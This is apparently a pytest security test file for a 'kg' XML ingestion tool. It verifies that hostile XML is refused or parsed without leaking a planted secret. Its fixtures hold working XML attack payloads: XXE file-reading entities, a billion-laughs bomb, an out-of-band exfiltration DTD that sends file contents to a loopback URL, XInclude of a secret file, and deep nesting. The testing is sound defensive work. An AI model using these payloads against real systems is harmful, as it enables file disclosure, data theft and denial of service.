"""Hostile XML through the readers and through `kg ingest`: nothing outside the document is ever read.

Attacks: XXE (internal subset, also UTF-16 encoded), billion laughs, an external DTD on disk and on
http://127.0.0.1, parameter entities pointing at a local DTD / a loopback URL (open and closed
port), XInclude of a secret file, 10^5 nested elements.

Two detectors make "nothing was fetched" observable rather than assumed:
- the secret file and the evil DTD are FIFOs served by a thread, which notices if anyone opens them
  (a control test shows that a permissive lxml parser does open both);
- an http://127.0.0.1 listener must never receive a connection.
Each document is rejected with one `[ERROR] path: reason` line or parsed without the secret; the
secret is then searched for in the readers' output, stderr, the store, every `kg export` format
and `kg cases`.
"""
from __future__ import annotations

import socket
import uuid

import pytest
from lxml import etree

from kg.errors import InputError, KGError, UnsafeXMLError
from kg.model import Document
from kg.readers import read_bytes, read_path
from fixture_helpers import FifoSpy, Listener
from reliability_inputs import error_lines, jats, run_kg, summary_line

SECRET = f"KG-SECRET-{uuid.uuid4().hex}"


def _closed_port() -> int:
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    """Secrets dir (FIFO spies), listener, and the hostile documents {name: (bytes, refused?)}."""
    d = tmp_path_factory.mktemp("secrets")
    listener = Listener()
    secret = FifoSpy(d / "secret.txt", SECRET.encode())
    # The classic exfiltration DTD: read the secret into %f; and send it to the listener.
    evil = FifoSpy(d / "evil.dtd", (
        f'<!ENTITY x SYSTEM "file://{d}/secret.txt">'
        f'<!ENTITY % f SYSTEM "file://{d}/secret.txt">'
        f"<!ENTITY % e \"<!ENTITY y SYSTEM 'http://127.0.0.1:{listener.port}/?%f;'>\"> %e;").encode())
    http = f"http://127.0.0.1:{listener.port}"
    closed = f"http://127.0.0.1:{_closed_port()}"
    laughs = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10)]
    xinclude = (f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{d}/secret.txt" parse="text"/>'
                f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{http}/inc.xml"/>')
    docs = {
        # name: (document, refused by the reader?)
        "xxe.xml": (jats(f'<!DOCTYPE article [<!ENTITY x SYSTEM "file://{d}/secret.txt">]>', "&x;",
                         pmid="32000001"), True),
        "xxe_utf16.xml": (jats(f'<!DOCTYPE article [<!ENTITY x SYSTEM "file://{d}/secret.txt">]>', "&x;",
                               pmid="32000002").decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
                          .encode("utf-16"), True),
        "billion_laughs.xml": (jats(f"<!DOCTYPE article [{''.join(laughs)}]>", "&l9;", pmid="32000003"), True),
        "pe_local_dtd.xml": (jats(f'<!DOCTYPE article [<!ENTITY % p SYSTEM "file://{d}/evil.dtd"> %p;]>', "&x;&y;",
                                  pmid="32000004"), True),
        "pe_http_listener.xml": (jats(f'<!DOCTYPE article [<!ENTITY % p SYSTEM "{http}/evil.dtd"> %p;]>', "&x;",
                                      pmid="32000005"), True),
        "pe_http_closed.xml": (jats(f'<!DOCTYPE article [<!ENTITY % p SYSTEM "{closed}/evil.dtd"> %p;]>', "&x;",
                                    pmid="32000006"), True),
        "external_dtd_file.xml": (jats(f'<!DOCTYPE article SYSTEM "file://{d}/evil.dtd">', "&x;&y;",
                                       pmid="32000007"), False),
        "external_dtd_http.xml": (jats(f'<!DOCTYPE article PUBLIC "-//KG//Hostile//EN" "{http}/evil.dtd">', "&x;",
                                       pmid="32000008"), False),
        "xinclude.xml": (jats("", xinclude, pmid="32000009"), False),
        "deep.xml": (b"<article>" + b"<sec>" * 100_000 + b"</sec>" * 100_000 + b"</article>", True),
    }
    yield {"dir": d, "listener": listener, "spies": (secret, evil), "docs": docs}
    secret.close()
    evil.close()
    listener.sock.close()


def _nothing_fetched(env) -> None:
    secret, evil = env["spies"]
    assert not secret.opened.is_set(), "the secret file was opened"
    assert not evil.opened.is_set(), "the external DTD was opened"
    assert env["listener"].connections() == 0, "a connection to the loopback listener was attempted"


def test_detectors_work(tmp_path):
    """Control: the FIFO spy notices a parser that loads DTDs; the listener counts a connection."""
    listener = Listener()
    dtd = FifoSpy(tmp_path / "x.dtd", b'<!ENTITY x "from-the-dtd">')
    try:
        loose = etree.XMLParser(load_dtd=True, resolve_entities=True, no_network=False)
        root = etree.fromstring(f'<!DOCTYPE a SYSTEM "file://{tmp_path}/x.dtd"><a>&x;</a>'.encode(), loose)
        assert root.text == "from-the-dtd"
    finally:
        dtd.close()
    assert dtd.opened.is_set()
    assert listener.connections() == 0
    socket.create_connection(("127.0.0.1", listener.port), timeout=2).close()
    assert listener.connections() == 1
    listener.sock.close()


@pytest.mark.parametrize("name", [
    "xxe.xml", "xxe_utf16.xml", "billion_laughs.xml", "pe_local_dtd.xml", "pe_http_listener.xml",
    "pe_http_closed.xml", "external_dtd_file.xml", "external_dtd_http.xml", "xinclude.xml", "deep.xml"])
def test_reader_refuses_or_parses_safely(env, name):
    data, refused = env["docs"][name]
    if refused:
        with pytest.raises(UnsafeXMLError) as info:
            list(read_bytes(data, name))
        message = str(info.value)
        assert SECRET not in message and "\n" not in message
        assert message.startswith(f"{name}: ")
    else:
        items = list(read_bytes(data, name))
        assert len(items) == 1 and isinstance(items[0], Document)
        assert SECRET not in repr(vars(items[0]))
        assert "crizotinib" in items[0].text  # the document itself is still read
    _nothing_fetched(env)


def test_deep_nesting_through_read_path_is_refused_quickly(tmp_path, env):
    path = tmp_path / "deep.nxml"
    path.write_bytes(env["docs"]["deep.xml"][0])
    with pytest.raises(UnsafeXMLError, match="nesting"):
        read_path(path)


def test_reader_errors_are_kg_errors_only(env):
    for name, (data, _) in env["docs"].items():
        try:
            for item in read_bytes(data, name):
                assert isinstance(item, (Document, InputError))
        except KGError:
            pass


@pytest.mark.system
def test_cli_ingest_hostile_dir_leaks_nothing(tmp_path, env):
    inputs = tmp_path / "in"
    inputs.mkdir()
    for name, (data, _) in env["docs"].items():
        (inputs / name).write_bytes(data)
    store = tmp_path / "store"

    res = run_kg("ingest", str(inputs), "--store", str(store), "-j", "1")
    assert res.returncode == 1, res.stderr
    assert SECRET not in res.stderr + res.stdout
    errors = error_lines(res.stderr)
    refused = sorted(n for n, (_, r) in env["docs"].items() if r)
    assert sorted(ln.split(": ", 1)[0][len("[ERROR] "):] for ln in errors) == [str(inputs / n) for n in refused]
    for ln in errors:  # the reason names the refused XML feature
        assert ("nesting" in ln) if "deep.xml" in ln else ("entit" in ln.lower()), ln
    last = summary_line(res.stderr)
    assert last.startswith("ingested 3 report(s)") and last.endswith(f"rejected {len(refused)}"), last
    _nothing_fetched(env)

    # the store, every export format and `kg cases`
    from kg.store import open_store
    with open_store(store, read_only=True) as st:
        dump = st.dump("nquads").decode("utf-8")
        assert len(st.named_graphs()) == 3
    assert SECRET not in dump
    for pmid in ("32000007", "32000008", "32000009"):  # the safely parsed documents are there
        assert f"pmid:{pmid}" in dump
    for fmt in ("turtle", "trig", "nquads", "jsonld"):
        out = tmp_path / f"export.{fmt}"
        res = run_kg("export", "--store", str(store), "--format", fmt, "-o", str(out))
        assert res.returncode == 0, res.stderr
        text = out.read_text(encoding="utf-8")
        assert "32000009" in text and SECRET not in text
    res = run_kg("cases", "--store", str(store))
    assert res.returncode == 0, res.stderr
    assert "pmid:32000009" in res.stdout and SECRET not in res.stdout
    _nothing_fetched(env)
